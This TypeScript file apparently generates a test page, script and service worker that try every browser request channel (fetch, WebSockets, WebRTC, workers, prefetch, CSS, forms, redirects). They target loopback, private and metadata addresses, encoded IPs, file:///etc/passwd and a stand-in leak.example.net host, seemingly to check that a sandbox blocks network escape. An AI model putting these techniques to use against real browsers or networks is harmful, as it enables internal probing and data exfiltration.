/** Where a page would like to get: inside in several notations, past the guard, and names that only the machine itself may know. */
const targets = [
  '127.0.0.1:9',
  '10.0.0.5',
  '169.254.169.254',
  '[::1]:9',
  'localhost:9',
  '192.168.1.1',
  '[fd00::5]',
  '2130706433',
  '0x7f.1',
  'internal.corp',
  '0.0.0.0:9',
  '[::ffff:10.0.0.5]',
  '8.8.8.8:53',
  'leak.example.net',
];
const iceServers = [
  '10.0.0.5',
  '127.0.0.1',
  '93.184.216.34',
  '8.8.8.8',
  'stun.example.net',
  '169.254.169.254',
  '[fd00::5]',
];

/** Every way out that a browser has, by script. */
const script = `
const targets = ${JSON.stringify(targets)};
const attempt = (way) => { try { Promise.resolve(way()).catch(() => {}) } catch {} };
for (const [at, target] of targets.entries()) {
  const plain = 'http://' + target;
  attempt(() => fetch(plain + '/fetch', { mode: 'no-cors' }));
  attempt(() => fetch(plain + '/keepalive', { mode: 'no-cors', keepalive: true }));
  attempt(() => { const request = new XMLHttpRequest(); request.open('GET', plain + '/xhr'); request.send() });
  attempt(() => navigator.sendBeacon(plain + '/beacon', 'x'));
  attempt(() => new WebSocket('ws://' + target + '/ws'));
  attempt(() => new WebSocket('wss://' + target + '/wss'));
  attempt(() => new EventSource(plain + '/events'));
  attempt(() => new WebTransport('https://' + target.replace(/:9$/, '') + ':4433/').ready);
  attempt(() => import(plain + '/module.js'));
  attempt(() => window.open(plain + '/popup'));
  const inWorker = 'fetch("' + plain + '/worker", { mode: "no-cors" }).catch(() => {}); try { importScripts("' + plain + '/imported") } catch {} new WebSocket("ws://' + target + '/worker")';
  attempt(() => new Worker(URL.createObjectURL(new Blob([inWorker]))));
  attempt(() => new SharedWorker(URL.createObjectURL(new Blob([inWorker]))));
  setTimeout(() => {
    attempt(() => document.getElementById('ping' + at).click());
    attempt(() => document.getElementById('form' + at).submit());
    attempt(() => document.getElementById('load' + at).click());
  }, 500);
}
attempt(() => {
  for (const server of ${JSON.stringify(iceServers)}) {
    const peer = new RTCPeerConnection({ iceServers: [
      { urls: ['stun:' + server + ':3478'] },
      { urls: ['turn:' + server + ':3478?transport=tcp', 'turn:' + server + ':3478?transport=udp', 'turns:' + server + ':5349?transport=tcp'], username: 'u', credential: 'p' } ] });
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    setTimeout(() => { for (const candidate of ['candidate:1 1 udp 2122260223 10.0.0.5 5000 typ host', 'candidate:2 1 tcp 2122260223 127.0.0.1 9 typ host tcptype passive', 'candidate:3 1 udp 1 x.local 5000 typ host'])
      peer.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => {}) }, 300);
  }
});
attempt(() => navigator.serviceWorker.register('/worker.js'));
setTimeout(() => { for (const target of targets) { const frame = document.createElement('iframe'); frame.src = '/redirect?to=' + encodeURIComponent('http://' + target + '/redirected'); document.body.append(frame) } }, 200);
setTimeout(() => { location.href = 'http://10.0.0.5/top' }, 2500);
`;

const forEach = (write: (target: string, at: number) => string): string => targets.map(write).join('\n');

/** The page: the same ways out by markup and styles. It says nothing, so that it is looked at until its time is up. */
export const waysOutPage = `<!doctype html><title>out</title><script>${script}</script>
${forEach(
  (target, at) =>
    `<link rel="dns-prefetch" href="//name${at}.prefetch.example.net"><link rel="preconnect" href="http://${target}/"><link rel="prefetch" href="http://${target}/prefetch"><link rel="preload" as="script" href="http://${target}/preload"><link rel="stylesheet" href="http://${target}/style"><link rel="icon" href="http://${target}/icon${at}"><link rel="manifest" href="http://${target}/manifest"><link rel="modulepreload" href="http://${target}/module">`,
)}
<script type="speculationrules">${JSON.stringify({
  prefetch: [
    { source: 'list', urls: targets.map((target) => `http://${target}/speculated`), eagerness: 'immediate' },
  ],
  prerender: [
    { source: 'list', urls: targets.map((target) => `http://${target}/prerendered`), eagerness: 'immediate' },
  ],
})}</script>
<style>${forEach((target, at) => `@import url(http://${target}/import); @font-face { font-family: f${at}; src: url(http://${target}/font) } .c${at} { background: url(http://${target}/background); font-family: f${at} }`)}</style>
${forEach(
  (target, at) =>
    `<p class="c${at}"></p><img src="http://${target}/image"><img srcset="https://${target}/image 2x"><iframe src="http://${target}/frame"></iframe><iframe src="file:///etc/passwd"></iframe><object data="http://${target}/object"></object><embed src="http://${target}/embed"><video src="http://${target}/video" autoplay muted></video><script src="http://${target}/script"></script><a id="ping${at}" href="#" ping="http://${target}/ping"></a><form id="form${at}" action="http://${target}/form" target="frame${at}" method="post"></form><iframe name="frame${at}"></iframe><a id="load${at}" download href="http://${target}/download"></a>`,
)}`;

export const serviceWorker = `
self.addEventListener('install', () => { for (const target of ${JSON.stringify(targets)}) { fetch('http://' + target + '/service', { mode: 'no-cors' }).catch(() => {}); try { new WebSocket('ws://' + target + '/service') } catch {} } });
self.addEventListener('fetch', () => {});`;
